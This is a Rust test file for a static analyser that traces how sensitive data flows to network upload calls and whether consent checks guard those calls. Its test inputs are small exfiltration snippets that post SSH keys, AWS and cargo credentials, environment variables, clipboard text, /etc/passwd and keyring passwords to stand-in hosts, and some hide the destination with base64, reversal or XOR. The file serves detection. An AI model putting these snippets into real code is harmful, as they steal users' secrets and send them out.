//! One test per propagation construct: each says which data reaches which sink line,
//! and through which steps.

use super::*;
use trustlint_core::config::DataUploadConfig;

/// (data label, line of the sink, flow notes) for every upload outside consent checks.
fn uploads(source: &str) -> Vec<(String, usize, Vec<String>)> {
    uploads_with(source, &DataUploadConfig::default())
}

fn uploads_with(source: &str, config: &DataUploadConfig) -> Vec<(String, usize, Vec<String>)> {
    let file = syn::parse_file(source).expect("test source parses");
    let line_of = |offset: usize| source[..offset].matches('\n').count() + 1;
    let mut found: Vec<(String, usize, Vec<String>)> = analyze(&file, config, None)
        .uploads
        .into_iter()
        .filter(|u| !u.guarded)
        .map(|u| {
            let data = u.taint.data_type().expect("source").clone();
            let notes = u.taint.steps.iter().map(|s| s.note.render(&data)).collect();
            (data.label, line_of(u.range.start), notes)
        })
        .collect();
    found.dedup_by(|a, b| a.0 == b.0 && a.1 == b.1);
    found
}

fn sink_lines(source: &str) -> Vec<(String, usize)> {
    uploads(source)
        .into_iter()
        .map(|(label, line, _)| (label, line))
        .collect()
}

#[test]
fn let_bindings_and_method_chains_carry_data_with_their_steps() {
    let found = uploads(
        r#"
fn report() {
    let host = hostname::get().unwrap();
    let name = host.to_string_lossy().to_string();
    let client = reqwest::blocking::Client::new();
    client.post("https://crash.example.com/r").body(name.clone()).send().unwrap();
}
"#,
    );
    assert_eq!(found.len(), 1, "{found:?}");
    let (label, line, notes) = &found[0];
    assert_eq!((label.as_str(), *line), ("the device's hostname", 6));
    assert_eq!(
        notes,
        &[
            "`hostname::get()` returns the device's hostname",
            "`host` holds the device's hostname",
            "`name` holds the device's hostname",
        ]
    );
}

#[test]
fn tuples_and_struct_fields_are_tracked_per_field() {
    let found = sink_lines(
        r#"
struct Report { version: String, host: String }
fn send(client: &reqwest::Client) {
    let (host, version) = (whoami::hostname(), "1.2.0".to_string());
    let report = Report { version: version.clone(), host };
    client.post("https://t.example.com").body(report.version.clone());
    client.post("https://t.example.com").body(report.host);
}
"#,
    );
    assert_eq!(found, vec![("the device's hostname".to_owned(), 7)]);
}

#[test]
fn reassignment_collections_and_format_carry_data() {
    let found = sink_lines(
        r#"
fn exfil() {
    let mut lines = Vec::new();
    for (key, value) in std::env::vars() {
        lines.push(format!("{key}={value}"));
    }
    let mut body = String::new();
    body = lines.join("\n");
    let payload = serde_json::json!({ "env": body, "v": 1 });
    ureq::post("http://45.61.139.17/e").send_json(payload).ok();
}
"#,
    );
    assert_eq!(found, vec![("environment variables".to_owned(), 10)]);
}

#[test]
fn push_str_plus_and_collect_carry_data() {
    let found = sink_lines(
        r#"
fn main() {
    let user = whoami::username();
    let mut text = String::from("user=");
    text.push_str(&user);
    let joined: Vec<String> = vec![text].into_iter().map(|t| t + "!").collect();
    let agent = ureq::agent();
    agent.post("https://x.example.net").send_string(&joined.concat()).unwrap();
}
"#,
    );
    assert_eq!(found, vec![("the user's name".to_owned(), 8)]);
}

#[test]
fn closures_called_through_variables_and_iterator_adapters() {
    let found = sink_lines(
        r#"
fn main() {
    let client = reqwest::blocking::Client::new();
    let send = |text: String| client.post("https://c.example.net").body(text).send();
    let clip = arboard::Clipboard::new().unwrap().get_text().unwrap();
    send(clip);
    std::env::vars().for_each(|(k, v)| { client.post("https://c.example.net").body(format!("{k}{v}")).send(); });
}
"#,
    );
    assert_eq!(
        found,
        vec![
            ("clipboard contents".to_owned(), 4),
            ("environment variables".to_owned(), 7)
        ]
    );
}

#[test]
fn helpers_are_summarised_across_functions() {
    let found = uploads(
        r#"
fn collect_env() -> String {
    std::env::vars().map(|(k, v)| format!("{k}={v}")).collect::<Vec<_>>().join(";")
}
fn wrap(data: String) -> String { format!("payload:{data}") }
fn upload(body: String) {
    reqwest::blocking::Client::new().post("https://discord.com/api/webhooks/1/x").body(body).send().ok();
}
fn run() {
    let dump = collect_env();
    upload(wrap(dump));
}
"#,
    );
    assert_eq!(found.len(), 1, "{found:?}");
    let (label, line, notes) = &found[0];
    assert_eq!((label.as_str(), *line), ("environment variables", 7));
    assert_eq!(
        notes.first().unwrap(),
        "`std::env::vars()` returns environment variables"
    );
    assert!(
        notes
            .iter()
            .any(|n| n == "`dump` holds environment variables"),
        "{notes:?}"
    );
    assert!(
        notes
            .iter()
            .any(|n| n == "environment variables passed to `upload` as `body`"),
        "{notes:?}"
    );
}

#[test]
fn impl_methods_on_self_are_summarised() {
    let found = sink_lines(
        r#"
struct Telemetry { client: reqwest::Client }
impl Telemetry {
    fn device(&self) -> String { mac_address::get_mac_address().unwrap().unwrap().to_string() }
    async fn send(&self, event: &str) {
        let id = self.device();
        self.client.post("https://t.example.com").json(&serde_json::json!({"e": event, "id": id})).send().await.ok();
    }
}
"#,
    );
    assert_eq!(found, vec![("the device's MAC address".to_owned(), 7)]);
}

#[test]
fn key_files_are_sources_when_read_not_when_named() {
    let found = sink_lines(
        r#"
use std::fs;
fn steal() -> std::io::Result<()> {
    let home = dirs::home_dir().unwrap();
    let key_path = home.join(".ssh").join("id_rsa");
    let key = fs::read_to_string(&key_path)?;
    let client = reqwest::blocking::Client::new();
    client.post("https://paste.example.org").body(key_path.display().to_string()).send().ok();
    client.post("https://paste.example.org").body(key).send().ok();
    Ok(())
}
"#,
    );
    assert_eq!(found, vec![("SSH keys".to_owned(), 9)]);
}

#[test]
fn file_handles_and_read_to_string_out_parameters() {
    let found = sink_lines(
        r#"
use std::io::Read;
fn f() {
    let mut file = std::fs::File::open("/etc/passwd").unwrap();
    let mut contents = String::new();
    file.read_to_string(&mut contents).unwrap();
    let mut stream = std::net::TcpStream::connect("203.0.113.77:9001").unwrap();
    stream.write_all(contents.as_bytes()).unwrap();
}
"#,
    );
    assert_eq!(found, vec![("the system's account list".to_owned(), 8)]);
}

#[test]
fn if_let_match_and_question_mark_bindings() {
    let found = sink_lines(
        r#"
fn f() -> Result<(), Box<dyn std::error::Error>> {
    let entry = keyring::Entry::new("vpn", "me")?;
    if let Ok(secret) = entry.get_password() {
        match Some(secret) {
            Some(s) => { surf::post("https://k.example.net").body_string(s); }
            None => {}
        }
    }
    Ok(())
}
"#,
    );
    assert_eq!(
        found,
        vec![("a password from the system keyring".to_owned(), 6)]
    );
}

#[test]
fn consent_checks_guard_flows() {
    let found = sink_lines(
        r#"
struct Settings { telemetry_enabled: bool }
fn a(settings: &Settings, client: &reqwest::Client) {
    if settings.telemetry_enabled {
        client.post("https://t.example.com").body(whoami::username());
    }
}
fn b(client: &reqwest::Client) {
    if !has_consent() { return; }
    client.post("https://t.example.com").body(whoami::username());
}
fn c(client: &reqwest::Client) { client.post("https://t.example.com").body(whoami::username()); }
fn d(client: &reqwest::Client) { if user_opted_in() { c(client) } }
"#,
    );
    assert_eq!(found, Vec::<(String, usize)>::new());
}

#[test]
fn configuration_env_vars_are_not_sensitive_but_secrets_are() {
    let file = syn::parse_file(
        r#"
fn f(client: &reqwest::blocking::Client) {
    let api = std::env::var("API_URL").unwrap();
    client.post(format!("{api}/v1")).body(std::env::var("LOG_LEVEL").unwrap()).send();
    let token = std::env::var("GITHUB_TOKEN").unwrap();
    client.get("https://api.github.com/user").bearer_auth(&token).send();
    client.post("https://api.example.com").header("X-Debug", &token).send();
}
"#,
    )
    .unwrap();
    let positions: Vec<(String, Position)> = analyze(&file, &DataUploadConfig::default(), None)
        .uploads
        .iter()
        .map(|u| (u.call.clone(), u.position))
        .collect();
    assert_eq!(
        positions,
        vec![
            (".bearer_auth()".to_owned(), Position::Authorization),
            (".header()".to_owned(), Position::Payload)
        ]
    );
}

#[test]
fn env_var_reads_in_a_loop_over_many_names_are_a_harvest() {
    let found = sink_lines(
        r#"
const NAMES: &[&str] = &["AWS_REGION", "CI", "HOME_DIR", "RUNNER_OS"];
fn f() {
    let mut out = String::new();
    for name in NAMES {
        if let Ok(v) = std::env::var(name) { out += &v; }
    }
    isahc::post("https://collector.example.io", out).ok();
}
"#,
    );
    assert_eq!(found, vec![("environment variables".to_owned(), 8)]);
}

#[test]
fn destinations_resolve_through_consts_and_format() {
    let file = syn::parse_file(
        r#"
const HOST: &str = "webhook.site";
const ORIGIN: &str = "https://collect.example.net";
fn f(c: &reqwest::Client) {
    let url = format!("https://{}/{}", HOST, "abc");
    c.post(&url).send();
    c.get(std::env::var("API").unwrap()).send();
    c.get(format!("{ORIGIN}/v1/batch")).send();
}
"#,
    )
    .unwrap();
    let flows = analyze(&file, &DataUploadConfig::default(), None);
    let hosts: Vec<Option<String>> = flows
        .network_calls
        .iter()
        .map(|c| c.destination.host())
        .collect();
    assert_eq!(
        hosts,
        vec![
            Some("webhook.site".to_owned()),
            Some("collect.example.net".to_owned())
        ]
    );
}

#[test]
fn destinations_decoded_at_run_time_are_decoded() {
    let file = syn::parse_file(
        r#"
use base64::Engine;
fn f() {
    let raw = base64::engine::general_purpose::STANDARD.decode("aHR0cDovLzQ1LjYxLjEzOS4xNy91").unwrap();
    let url = String::from_utf8(raw).unwrap();
    ureq::post(&url).send_string("x");
    let reversed: String = "moc.elpmaxe.2c//:ptth".chars().rev().collect();
    ureq::get(&reversed).call();
    let xored: String = [0x32u8, 0x2e].iter().map(|b| (b ^ 0x5a) as char).collect();
    ureq::get(&format!("http://{xored}.example.net")).call();
}
"#,
    )
    .unwrap();
    let flows = analyze(&file, &DataUploadConfig::default(), None);
    let found: Vec<(Option<String>, bool)> = flows
        .network_calls
        .iter()
        .map(|c| (c.destination.host(), c.destination.decoded))
        .collect();
    assert_eq!(
        found,
        vec![
            (Some("45.61.139.17".to_owned()), true),
            (Some("c2.example.com".to_owned()), true),
            (Some("ht.example.net".to_owned()), true),
        ]
    );
}

#[test]
fn extra_sources_and_sinks_come_from_the_config() {
    let config: trustlint_core::Config = trustlint_core::Config::parse(
        "trustlint.toml",
        r#"
[data-upload]
sources = [{ language = "rust", call = "acme::device_serial", data-type = "device-id" }, { language = "swift", call = "X.y", data-type = "contacts" }]
sinks = [{ language = "rust", call = "acme_net::beacon" }]
"#,
    )
    .unwrap();
    let found = uploads_with(
        r#"
fn f() {
    let serial = acme::device_serial();
    acme_net::beacon(&serial);
}
"#,
        &config.data_upload,
    );
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!((found[0].0.as_str(), found[0].1), ("device-id data", 4));
}

#[test]
fn local_use_of_sensitive_data_is_silent() {
    let found = sink_lines(
        r#"
fn f() {
    let host = hostname::get().unwrap();
    println!("running on {:?}", host);
    std::fs::write("/tmp/host.txt", host.to_string_lossy().as_bytes()).unwrap();
    let len = std::env::vars().count();
    reqwest::blocking::Client::new().post("https://t.example.com").body(len.to_string()).send();
    let version = env!("CARGO_PKG_VERSION");
    reqwest::blocking::Client::new().post("https://t.example.com").body(version).send();
}
"#,
    );
    assert_eq!(found, Vec::<(String, usize)>::new());
}

#[test]
fn constants_that_name_themselves_are_evaluated_once() {
    // Regression: `const ONE: Self = Self { num: T::ONE, den: T::ONE }` re-entered its
    // own initializer twice per level, exponentially (fraction's generic_fraction.rs).
    let mut source = String::from("struct F;\nimpl F {\n");
    source.push_str("    const ONE: F = F { a: T::ONE, b: T::ONE, c: T::ONE, d: T::ONE };\n}\n");
    source.push_str("fn f() -> F { let x = F::ONE; let y = F::ONE; x }\n");
    let file = syn::parse_file(&source).unwrap();
    let start = std::time::Instant::now();
    analyze(&file, &DataUploadConfig::default(), None);
    assert!(start.elapsed() < std::time::Duration::from_secs(2));
}

#[test]
fn key_file_paths_are_built_on_any_home_directory() {
    let found = sink_lines(
        r#"
use std::path::PathBuf;
fn home() -> PathBuf {
    dirs::home_dir().unwrap_or_else(|| PathBuf::from("/"))
}
fn via_helper(client: &reqwest::Client) {
    let home = home();
    let key = std::fs::read_to_string(home.join(".ssh/id_rsa")).unwrap_or_default();
    client.post("https://t.example.com").body(key);
}
fn via_push(client: &reqwest::Client) {
    let mut path = std::env::home_dir().unwrap();
    path.push(".aws");
    path.push("credentials");
    let creds = std::fs::read(&path).unwrap();
    client.post("https://t.example.com").body(creds);
}
fn via_env(client: &reqwest::Client) {
    let home = PathBuf::from(std::env::var("HOME").unwrap_or_default());
    let token = std::fs::read_to_string(home.join(".cargo").join("credentials.toml")).unwrap();
    client.post("https://t.example.com").body(token);
}
"#,
    );
    assert_eq!(
        found,
        vec![
            ("SSH keys".to_owned(), 9),
            ("AWS credentials".to_owned(), 16),
            ("the cargo registry token".to_owned(), 21),
        ]
    );
}

#[test]
fn key_files_read_by_a_helper_from_a_passed_directory() {
    let found = uploads(
        r#"
fn collect(home: &std::path::Path) -> String {
    format!("{:?}", std::fs::read_to_string(home.join(".ssh/id_rsa")).unwrap_or_default())
}
fn report(client: &reqwest::Client) {
    let home = dirs::home_dir().unwrap();
    let payload = collect(&home);
    client.post("https://t.example.com").body(payload);
}
"#,
    );
    assert_eq!(found.len(), 1, "{found:?}");
    let (label, line, notes) = &found[0];
    assert_eq!((label.as_str(), *line), ("SSH keys", 8));
    assert_eq!(
        notes,
        &[
            "SSH keys read here",
            "`collect()` returns SSH keys",
            "`payload` holds SSH keys",
        ]
    );
}

#[test]
fn public_keys_and_ordinary_files_under_home_are_not_key_files() {
    let found = sink_lines(
        r#"
fn register_deploy_key(client: &reqwest::Client) {
    let home = dirs::home_dir().unwrap();
    let public = std::fs::read_to_string(home.join(".ssh/id_ed25519.pub")).unwrap();
    client.post("https://api.github.com/user/keys").json(&serde_json::json!({ "key": public }));
    let settings = std::fs::read_to_string(home.join(".config/devtools/settings.toml")).unwrap();
    client.post("https://t.example.com").body(settings);
}
"#,
    );
    assert_eq!(found, Vec::<(String, usize)>::new());
}

#[test]
fn clipboard_handles_are_known_by_their_constructor() {
    let found = sink_lines(
        r#"
fn f(client: &reqwest::Client) {
    let text = arboard::Clipboard::new().and_then(|mut c| c.get_text()).unwrap_or_default();
    client.post("https://t.example.com").body(text);
    let mut board = arboard::Clipboard::new().unwrap();
    let mut handle = board;
    let again = handle.get_text().unwrap();
    client.post("https://t.example.com").body(again);
    let document = Document::new();
    client.post("https://t.example.com").body(document.get_text());
}
"#,
    );
    assert_eq!(
        found,
        vec![
            ("clipboard contents".to_owned(), 4),
            ("clipboard contents".to_owned(), 8),
        ]
    );
}

/// Only the functions a seed's value may reach are evaluated: the seeds, their
/// callers at any depth, and everything those call; a constant holding a seed
/// makes the functions naming it seeds.
#[test]
fn only_functions_a_seed_may_reach_are_evaluated() {
    let source = r#"
const MIRROR: &str = "decode me";
fn key() -> String { helper(base64::decode(BLOB)) }
fn helper(bytes: Vec<u8>) -> String { String::from_utf8(bytes).unwrap() }
fn upload_key() { post(&key()); }
fn post(body: &str) { CLIENT.post(URL).body(body.to_owned()).send(); }
fn unrelated() { post("hello"); }
fn lonely() -> usize { 1 + 1 }
fn mirrored() -> &'static str { MIRROR }
"#;
    let file = syn::parse_file(source).expect("test source parses");
    let bodies = index::MacroBodies::collect(&file);
    let config = DataUploadConfig::default();
    let index = FileIndex::new(&file, &bodies, catalogue::Catalogue::new(&config));
    // A seed here is any region that says `decode`.
    let may_seed = |region: std::ops::Range<usize>, _: &crate::mentions::Mentions<'_>| {
        source[region].contains("decode")
    };
    let seeds = Seeds {
        text: source,
        may_seed: &may_seed,
    };
    let needed: Vec<&str> = relevance::needed(&index, &seeds)
        .iter()
        .zip(&index.functions)
        .filter(|(needed, _)| **needed)
        .map(|(_, function)| function.name.as_str())
        .collect();
    assert_eq!(needed, ["key", "helper", "upload_key", "post", "mirrored"]);

    // A name the words of the text cannot show: every function is evaluated.
    let source = source.replace("fn lonely", "fn café");
    let file = syn::parse_file(&source).expect("test source parses");
    let bodies = index::MacroBodies::collect(&file);
    let index = FileIndex::new(&file, &bodies, catalogue::Catalogue::new(&config));
    let seeds = Seeds {
        text: &source,
        may_seed: &|_, _| false,
    };
    assert_eq!(
        relevance::needed(&index, &seeds),
        vec![true; index.functions.len()]
    );
}
